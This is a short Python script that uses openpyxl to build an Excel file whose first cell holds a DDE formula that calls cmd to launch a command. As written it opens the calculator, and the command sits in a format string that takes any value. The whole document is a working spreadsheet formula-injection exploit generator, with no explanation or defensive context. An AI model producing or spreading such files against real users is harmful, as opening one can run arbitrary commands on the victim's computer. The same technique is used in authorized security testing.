from openpyxl import Workbook
wb = Workbook()
wb.active["A1"] = "=cmd|' /C {}'!A0".format("calc")
wb.save("x.xlsx")
